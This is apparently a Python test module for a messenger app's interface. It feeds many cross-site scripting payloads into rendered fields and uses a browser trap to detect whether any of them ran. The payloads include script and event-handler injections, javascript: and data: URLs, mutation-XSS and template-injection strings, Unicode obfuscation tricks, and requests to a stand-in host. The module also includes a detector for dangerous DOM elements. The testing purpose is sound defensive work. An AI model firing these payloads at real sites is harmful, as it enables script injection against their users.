"""What somebody might write where a screen shows it, and a trap that tells whether any of it came alive."""

# Nobody may ever ask this host for anything.
CANARY = "canary.invalid"
CALL = "__pwned(1)"

TEXTS = [
    # Script tags
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<script src=//{CANARY}/x.js></script>",
    f"<script type=module>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"\ufeff<script>{CALL}</script>",
    # Elements that act by themselves
    f"<img src=x onerror={CALL}>",
    f"<img src=//{CANARY}/pixel.png>",
    f"<img/src=`x`onerror={CALL}>",
    f"<image href=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=//{CANARY}/x.swf>",
    f"<base href=//{CANARY}/>",
    f"<link rel=stylesheet href=//{CANARY}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}/'>",
    f"<form action=//{CANARY}/><button autofocus formaction=javascript:{CALL}>x</button></form>",
    # Drawings
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}/>#x'/></svg>",
    # Styles
    f"<style>@import '//{CANARY}/x.css';</style>",
    f"<div style='background:url(//{CANARY}/x.png)'>x</div>",
    f"<p style=animation-name:x onanimationstart={CALL}>",
    # Attributes that are not closed, and what leaves them
    f'"><script>{CALL}</script>',
    f"'><img src=x onerror={CALL}>",
    f'" onmouseover="{CALL}" autofocus onfocus="{CALL}" x="',
    f"` onerror={CALL} `",
    "<img src='",
    '<a href="',
    "<!--",
    "--!><img src=x onerror=" + CALL + ">",
    "<![CDATA[<script>" + CALL + "</script>]]>",
    # What changes its meaning when it is parsed twice
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    # Templates
    "${" + CALL + "}",
    "{{constructor.constructor('" + CALL + "')()}}",
    "#{" + CALL + "}",
    "<%= " + CALL + " %>",
    "{0}{name}{count}",
    "__proto__",
    "constructor",
    # Links and Markdown
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}//https://x.example",
    f"https://x.example/\"onmouseover=\"{CALL}",
    f"https://x.example/'><script>{CALL}</script>",
    f"[press](javascript:{CALL})",
    f"[press](java\tscript:{CALL})",
    f"[press](&#106;avascript:{CALL})",
    f"[press](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+)",
    f"![picture](//{CANARY}/x.png)",
    f"[a]: javascript:{CALL}\n[press][a]",
    f"<javascript:{CALL}>",
    f"**<img src=x onerror={CALL}>** `</code><script>{CALL}</script>`",
    f"[x](https://x.example \"onmouseover={CALL}\")",
    # What turns round, hides or does not print
    f"\u202e>tpircs/<{CALL}>tpircs<",
    "\u2066\u202eexe.fdp\u2069 \u200b\u200d\u2060\ufeff",
    f"<scr\u200bipt>{CALL}</scr\u200bipt>",
    f"<\u017fcript>{CALL}</\u017fcript>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    "Z" + "\u0301" * 200 + "a\u0329" * 50,
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + "\u2028\u2029",
]

# Where an address is expected.
ADDRESSES = [
    f"javascript:{CALL}",
    f"JAVASCRIPT:{CALL}",
    f" javascript:{CALL}",
    f"java\nscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript://{CANARY}/%0a{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"vbscript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"blob:https://x.example/{CALL}",
    "file:///etc/passwd",
    f"x' onerror='{CALL}",
    f"x\" onerror=\"{CALL}",
    f"x)}}; {CALL};//",
]

# One text for a place that holds only one: all of them, in either order, because what one leaves open hides the next.
ALL_TEXTS = " ".join(TEXTS)
ALL_TEXTS_BACKWARDS = " ".join(reversed(TEXTS))

_TRAP = """
window.__hits = [];
window.__pwned = (what) => window.__hits.push(`ran ${what}`);
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => window.__hits.push(name);
document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
  window.__hits.push(`${effectiveDirective} ${blockedURI} ${sample}`));
"""

# What must not be in a screen whatever anybody wrote: elements that load or run, handlers, addresses that run.
_FIND = r"""
() => {
  const found = [];
  const bad = new Set("SCRIPT IFRAME FRAME OBJECT EMBED BASE META LINK STYLE MATH MARQUEE NOSCRIPT".split(" "));
  const runs = /^(javascript|vbscript|view-source|file):|^data:(?!image\/(png|jpeg|gif|webp))/i;
  const addresses = new Set("href src action formaction srcdoc poster data xlink:href srcset ping".split(" "));
  const leadsAway = (address) => {
    try {
      return new URL(address, location.href).hostname === "CANARY";
    } catch {
      return false;
    }
  };
  const walk = (root) => {
    for (const element of root.querySelectorAll("*")) {
      const isOurs = element.closest("messenger-preview") && /^\/(web\/)?preview/.test(element.getAttribute("src"));
      if (bad.has(element.tagName.toUpperCase()) && !isOurs) found.push(element.outerHTML.slice(0, 200));
      for (const { name, value } of element.attributes) {
        const address = value.replace(/[\0-\x20]/g, "");
        if (/^on/i.test(name) || (addresses.has(name) && (runs.test(address) || leadsAway(address))))
          found.push(`${element.tagName} ${name}=${value.slice(0, 200)}`);
      }
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  for (const root of document.querySelectorAll("engawa-messenger, desktop-app")) {
    walk(root);
    if (root.shadowRoot) walk(root.shadowRoot);
  }
  return found;
}
""".replace("CANARY", CANARY)


def _is_usual(hit):
    """A site whose rules keep a picture of yet another site away has lost nothing."""
    return hit.startswith(("img-src http", "media-src http")) and CANARY not in hit


class Trap:
    """Laid around a screen before its first page."""

    def __init__(self, screen):
        self.screen = screen
        self.seen = []
        screen.context.add_init_script(_TRAP)
        screen.context.on("request", self._asked)
        screen.context.on("page", self._watch)
        for page in screen.context.pages:
            self._watch(page)

    def _watch(self, page):
        page.on("dialog", self._spoke)

    def _asked(self, request):
        if CANARY in request.url.split("?")[0].split("/")[2:3]:
            self.seen.append(f"asked {request.url}")

    def _spoke(self, dialog):
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def is_empty(self):
        """Nothing ran, nobody was asked, no rule was broken, and nothing lies in wait."""
        frames = self.screen.page.frames
        hits = [hit for frame in frames for hit in frame.evaluate("window.__hits ?? []")]
        found = [one for frame in frames for one in frame.evaluate(_FIND)]
        problems = [*self.seen, *(hit for hit in hits if not _is_usual(hit)), *found]
        assert not problems, "\n".join(problems[:20])


def filled(value, text, kept=("contentType", "type", "formComponentType", "mediaType", "dateTime", "direction")):
    """A copy of what the wire carries with a text in the place of every other text."""
    if isinstance(value, dict):
        return {name: part if name in kept else filled(part, text, kept) for name, part in value.items()}
    if isinstance(value, list):
        return [filled(part, text, kept) for part in value]
    return text if isinstance(value, str) else value
